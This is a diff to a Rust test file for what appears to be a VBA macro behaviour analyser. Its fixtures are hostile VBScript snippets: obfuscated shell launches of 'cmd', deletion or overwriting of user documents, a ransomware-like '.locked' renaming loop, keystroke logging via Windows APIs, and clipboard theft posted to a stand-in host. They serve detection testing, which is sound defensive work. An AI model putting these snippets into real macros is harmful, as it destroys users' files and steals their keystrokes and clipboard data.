@@ -1,15 +1,10 @@
 //! What macros hand to other interpreters and programs: scripts, style sheets, objects elsewhere, macros that are made.
 
-use super::tests_eval::{all, details, opened};
+use super::tests_eval::{all, check, details, opened};
 use super::*;
 use crate::languages::ActionKind;
 
 const CONTROL: &str = "Set s = CreateObject(\"MSScriptControl.ScriptControl\")\ns.Language = \"JScript\"\n";
-
-fn has(kind: ActionKind, body: &str, expected: &str) -> Option<String> {
-    let found = details(kind, &opened(body));
-    (!found.iter().any(|detail| detail == expected)).then(|| format!("{body}\n-> {found:?}, not {expected}\n"))
-}
 
 #[test]
 fn scripts_that_macros_put_together() {
@@ -73,8 +68,7 @@ fn scripts_that_macros_put_together() {
             "cmd",
         ),
     ];
-    let wrong: Vec<String> = table.iter().filter_map(|(kind, body, expected)| has(*kind, body, expected)).collect();
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    check(table.iter().map(|(kind, body, expected)| (*kind, opened(body), *expected)));
 }
 
 #[test]
@@ -166,8 +160,7 @@ fn objects_elsewhere_and_other_programs() {
             "cmd",
         ),
     ];
-    let wrong: Vec<String> = table.iter().filter_map(|(kind, body, expected)| has(*kind, body, expected)).collect();
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    check(table.iter().map(|(kind, body, expected)| (*kind, opened(body), *expected)));
 }
 
 #[test]
@@ -200,5 +193,133 @@ fn honest_uses_of_the_same() {
             .map(|action| format!("{:?} {}", action.kind, action.detail))
             .collect();
         assert_eq!(acts, [""; 0], "{body}");
+    }
+}
+
+/// What a script of VBScript starts.
+fn started(script: &str) -> Vec<String> {
+    let (behaviour, result) =
+        analyse_script(script, &crate::budget::Budget::new(crate::budget::Limits::default(), |_| ()));
+    result.unwrap();
+    let runs =
+        behaviour.actions.into_iter().filter(|action| action.kind == ActionKind::Run && action.reached_by.is_some());
+    runs.map(|action| action.detail).collect()
+}
+
+#[test]
+fn scripts_of_vbscript() {
+    for script in [
+        // Classes.
+        "Class A\nPrivate Sub Class_Initialize\nCreateObject(\"WScript.Shell\").Run \"cm\" & Chr(100)\nEnd Sub\nEnd Class\nSet x = New A",
+        "Set x = New A\nCreateObject(\"WScript.Shell\").Run x.Line\nClass A\nPublic Property Get Line()\nLine = \"cm\" & Chr(100)\nEnd Property\nEnd Class",
+        "Class A\nPrivate t\nPublic Property Let Part(v)\nt = t & v\nEnd Property\nPublic Sub Go\nCreateObject(\"WScript.Shell\").Run t\nEnd Sub\nEnd Class\nDim a : Set a = New A\na.Part = \"cm\"\na.Part = \"d\"\na.Go",
+        "Class A\nPrivate s\nPublic Property Set Shell(v)\nSet s = v\nEnd Property\nPublic Function Go(t)\ns.Run StrReverse(t)\nEnd Function\nPrivate late\nEnd Class\nSet a = New A\nSet a.Shell = CreateObject(\"WScript.Shell\")\na.Go \"dmc\"",
+        "Class A : Public t : Public Default Function Go(x) : CreateObject(\"WScript.Shell\").Run t & x : End Function : End Class\nWith New A\n.t = \"cm\"\n.Go \"d\"\nEnd With",
+        "Class A\nPrivate Sub Class_Terminate\nCreateObject(\"WScript.Shell\").Run \"cm\" & Chr(100)\nEnd Sub\nEnd Class\nSub F\nSet x = New A\nSet x = Nothing\nEnd Sub\nF",
+        "Class A\nPublic Function D(t)\nD = StrReverse(t)\nEnd Function\nEnd Class\nClass B\nPrivate Sub Class_Initialize\nSet a = New A\nExecuteGlobal a.D(\"\"\"dmc\"\" nuR.)\"\"llehS.tpircSW\"\"(tcejbOetaerC\")\nEnd Sub\nEnd Class\nSet b = New B",
+        // Code that is made.
+        "Execute \"CreateObject(\"\"WScript.Shell\"\").Run \"\"cm\"\" & Chr(100)\"",
+        "Execute \"x = \"\"cm\"\" & Chr(100)\"\nCreateObject(\"WScript.Shell\").Run x",
+        "x = \"cm\"\nExecute \"CreateObject(\"\"WScript.Shell\"\").Run x & Chr(100)\"",
+        "Set s = CreateObject(\"WScript.Shell\")\nExecute \"s.Run \"\"cm\"\" & Chr(100)\"",
+        "Function D(t)\nD = StrReverse(t)\nEnd Function\nExecuteGlobal \"CreateObject(\"\"WScript.Shell\"\").Run D(\"\"dmc\"\")\"",
+        "ExecuteGlobal \"Function F(t)\" & vbCrLf & \"F = StrReverse(t)\" & vbCrLf & \"End Function\"\nCreateObject(\"WScript.Shell\").Run F(\"dmc\")",
+        "ExecuteGlobal \"Sub G\" & vbCrLf & \"CreateObject(\"\"WScript.Shell\"\").Run \"\"cm\"\" & Chr(100)\" & vbCrLf & \"End Sub\"\nG",
+        "CreateObject(\"WScript.Shell\").Run Eval(\"\"\"cm\"\" & Chr(100)\")",
+        // A variable that is declared outside is the same in procedures.
+        "Dim s : s = \"cm\"\nSub F\nCreateObject(\"WScript.Shell\").Run s & Chr(100)\nEnd Sub\nF",
+    ] {
+        let found = started(script);
+        assert!(found.iter().any(|line| line == "cmd"), "{script}\n-> {found:?}");
+    }
+    for honest in [
+        "Class A\nPrivate Sub Class_Initialize\nt = \"cmd\"\nEnd Sub\nPublic Sub Go\nCreateObject(\"WScript.Shell\").Run t\nEnd Sub\nEnd Class\nSet a = New A",
+        "Execute \"x = 1 + 2\"\nMsgBox x",
+    ] {
+        assert_eq!(started(honest), [""; 0], "{honest}");
+    }
+    // It ends.
+    started("Sub F\nExecute \"F\"\nEnd Sub\nF");
+    started("Class A\nPrivate Sub Class_Initialize\nSet x = New A\nEnd Sub\nEnd Class\nSet y = New A");
+}
+
+#[test]
+fn what_a_person_keeps_types_and_copies() {
+    const FILES: &str = "Set f = CreateObject(\"Scripting.FileSystemObject\")\n";
+    const KEYS: &str =
+        "Private Declare PtrSafe Function GetAsyncKeyState Lib \"user32\" (ByVal k As Long) As Integer\n";
+    const HOOK: &str = "Private Declare PtrSafe Function SetWindowsHookEx Lib \"user32\" Alias \"SetWindowsHookExA\" (ByVal i As Long, ByVal p As LongPtr, ByVal h As LongPtr, ByVal t As Long) As LongPtr\n";
+    let encrypts = "Sub E(p)\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nFor Each x In f.GetFolder(p).Files\nOpen x.Path For Binary As #1\nPut #1, 1, \"x\"\nClose #1\nx.Name = x.Name & \".locked\"\nNext\nFor Each y In f.GetFolder(p).SubFolders\nE y.Path\nNext\nEnd Sub\n";
+    let kinds = |source: &str| {
+        let acts = all(&[("M", ModuleKind::Standard, source)]).into_iter().filter(|action| action.reached_by.is_some());
+        acts.map(|action| action.kind).collect::<Vec<_>>()
+    };
+    for body in [
+        "p = Environ(\"USERPROFILE\") & \"\\Documents\\\"\nx = Dir(p & \"*.*\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop".to_owned(),
+        "p = Environ(\"USERPROFILE\") & \"\\Desktop\\\"\nx = Dir(p & \"*.doc*\")\nWhile x <> \"\"\nOpen p & x For Output As #1\nPrint #1, \"x\"\nClose #1\nx = Dir()\nWend".into(),
+        "Kill Environ$(\"USERPROFILE\") & \"\\Documents\\*.*\"".into(),
+        "Kill \"C:\\Users\\\" & Environ(\"USERNAME\") & \"\\Desktop\\*.xlsx\"".into(),
+        format!("{FILES}For Each d In f.Drives\nFor Each x In f.GetFolder(d.DriveLetter & \":\\\").Files\nx.Delete True\nNext\nNext"),
+        format!("{FILES}Set w = CreateObject(\"WScript.Shell\")\nFor Each x In f.GetFolder(w.SpecialFolders(\"MyDocuments\")).Files\nf.DeleteFile x\nNext"),
+    ] {
+        let source = opened(&body);
+        assert!(kinds(&source).contains(&ActionKind::Destroy), "{body}");
+    }
+    for start in ["E Environ(\"USERPROFILE\") & \"\\Documents\"", "E \"C:\\Users\\a\\Pictures\""] {
+        let source = format!("{encrypts}{}", opened(start));
+        assert!(kinds(&source).contains(&ActionKind::Destroy), "{start}: {:?}", kinds(&source));
+    }
+    for (declared, body) in [
+        (KEYS, "For i = 8 To 255\nIf GetAsyncKeyState(i) <> 0 Then t = t & Chr(i)\nNext"),
+        (KEYS, "Do\nFor i = 32 To 126\nIf GetAsyncKeyState(i) = -32767 Then Print #1, Chr(i)\nNext\nLoop"),
+        (HOOK, "h = SetWindowsHookEx(13, AddressOf P, 0, 0)"),
+        (
+            "",
+            "Dim d As New MSForms.DataObject\nd.GetFromClipboard\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"POST\", \"http://a.example/\", False\nh.send \"t=\" & d.GetText",
+        ),
+        (
+            "",
+            "Set d = GetObject(\"new:{1C3B4210-F441-11CE-B9EA-00AA006B1A69}\")\nd.GetFromClipboard\nSet h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"GET\", \"http://a.example/?\" & d.GetText(1)\nh.send",
+        ),
+        (
+            "",
+            "t = CreateObject(\"htmlfile\").parentWindow.clipboardData.getData(\"Text\")\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"POST\", \"http://a.example/\", False\nh.send t",
+        ),
+    ] {
+        let source = format!("{declared}{}", opened(body));
+        assert!(kinds(&source).contains(&ActionKind::Spy), "{body}: {:?}", kinds(&source));
+    }
+    // What honest macros do.
+    for (declared, body) in [
+        ("", "p = Environ(\"TEMP\") & \"\\\"\nx = Dir(p & \"*.*\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop"),
+        (
+            "",
+            "p = ThisWorkbook.Path & \"\\out\\\"\nx = Dir(p & \"*.pdf\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop",
+        ),
+        (
+            "",
+            "p = Environ(\"USERPROFILE\") & \"\\Documents\\Reports\\\"\nx = Dir(p & \"*.csv\")\nDo While x <> \"\"\nKill p & x\nx = Dir\nLoop",
+        ),
+        (
+            "",
+            "Kill Environ(\"USERPROFILE\") & \"\\Documents\\*.tmp\"\nKill Environ(\"USERPROFILE\") & \"\\Documents\\report.xlsx\"",
+        ),
+        ("", "For Each c In Range(\"A1:A9\")\nOpen \"D:\\\" & c.Value For Output As #1\nPrint #1, c\nClose #1\nNext"),
+        (
+            "",
+            "p = Environ(\"USERPROFILE\") & \"\\Documents\\\"\nx = Dir(p & \"*.txt\")\nDo While x <> \"\"\nOpen p & x For Input As #1\nLine Input #1, t\nClose #1\nx = Dir\nLoop",
+        ),
+        (
+            KEYS,
+            "For i = 1 To 300\nIf GetAsyncKeyState(vbKeyEscape) Or GetAsyncKeyState(37 + i Mod 4) Then Exit For\nNext",
+        ),
+        (HOOK, "h = SetWindowsHookEx(5, AddressOf P, 0, 0)\ng = SetWindowsHookEx(14, AddressOf P, 0, 0)"),
+        (
+            "",
+            "Dim d As New MSForms.DataObject\nd.SetText \"a\"\nd.PutInClipboard\nd.GetFromClipboard\nRange(\"A1\") = d.GetText",
+        ),
+    ] {
+        let found = kinds(&format!("{declared}{}", opened(body)));
+        assert!(!found.contains(&ActionKind::Destroy) && !found.contains(&ActionKind::Spy), "{body}: {found:?}");
     }
 }
